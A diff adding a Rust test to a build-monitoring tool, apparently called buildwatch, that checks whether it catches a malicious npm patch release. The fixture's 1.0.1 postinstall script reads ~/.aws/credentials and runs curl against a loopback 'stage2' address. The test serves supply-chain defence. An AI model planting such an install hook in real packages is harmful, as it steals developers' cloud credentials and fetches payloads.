@@ -369,3 +369,90 @@ fn pip_local_directory_build_is_attributed_to_the_project() {
         w.stderr()
     );
 }
+
+/// The patch-release story end to end: the same dependency installed at 1.0.0 (its install
+/// script runs node and nothing else) and at 1.0.1 (it reads the AWS credentials and runs
+/// curl to an address); `buildwatch diff` of the two runs' reports names the
+/// package, the version change and exactly what 1.0.1 started doing, and fails the step.
+#[test]
+fn diff_of_two_npm_runs_shows_what_a_patch_release_started_doing() {
+    if !require_bpf() {
+        return;
+    }
+    let tmp = TempDir::new("npm-diff");
+    let home = fake_home(&tmp);
+    let mut reports = Vec::new();
+    for (version, js) in [
+        ("1.0.0", "require('fs').readFileSync(__filename);\n"),
+        (
+            "1.0.1",
+            "const fs = require('fs'), cp = require('child_process');\n\
+             fs.readFileSync(process.env.HOME + '/.aws/credentials');\n\
+             try { cp.execSync('curl -s -m 2 http://127.0.0.1:9/stage2'); } catch (e) {}\n",
+        ),
+    ] {
+        let tgz = npm_package(
+            &tmp,
+            "quiet-dep",
+            version,
+            &[("install.js", js)],
+            json!({"postinstall": "node install.js"}),
+        );
+        let proj = tmp.join(&format!("project-{version}"));
+        fs::create_dir_all(&proj).unwrap();
+        fs::write(
+            proj.join("package.json"),
+            r#"{"name":"app","version":"1.0.0","private":true}"#,
+        )
+        .unwrap();
+        let w = npm_install(&tmp, &proj, &npm_env(&home), &tgz);
+        assert_eq!(w.report["exit_code"], 0, "npm succeeded: {}", w.stderr());
+        only_loopback_egress(&w);
+        let path = tmp.join(&format!("report-{version}.json"));
+        fs::write(&path, w.report.to_string()).unwrap();
+        reports.push(path);
+    }
+    let diff = |extra: &[&str]| {
+        std::process::Command::new(buildwatch_bin())
+            .arg("diff")
+            .args([&reports[0], &reports[1]])
+            .args(extra)
+            .output()
+            .unwrap()
+    };
+    let out = diff(&["--format", "json"]);
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    let d: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let pkg = d
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["package"] == "quiet-dep")
+        .unwrap_or_else(|| panic!("quiet-dep in the diff: {d:#}"));
+    assert_eq!(pkg["before"], json!(["1.0.0"]), "{pkg:#}");
+    assert_eq!(pkg["after"], json!(["1.0.1"]), "{pkg:#}");
+    let has = |field: &str, want: &str| {
+        pkg[field]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|v| v.as_str().is_some_and(|s| s.contains(want)))
+    };
+    assert!(has("executables", "curl"), "{pkg:#}");
+    assert!(!has("executables", "node"), "node ran in both: {pkg:#}");
+    assert!(has("destinations", "127.0.0.1:9"), "{pkg:#}");
+    assert!(has("findings", "sensitive-file-read"), "{pkg:#}");
+    assert!(has("findings", ".aws/credentials"), "{pkg:#}");
+    // The step fails on anything new; the text names the version change.
+    let out = diff(&["--fail-on-new"]);
+    assert_eq!(out.status.code(), Some(86), "{out:?}");
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("quiet-dep 1.0.0 → 1.0.1"), "{text}");
+    // A run against itself: nothing new, the step passes.
+    let out = std::process::Command::new(buildwatch_bin())
+        .args(["diff", "--fail-on-new"])
+        .args([&reports[1], &reports[1]])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+}
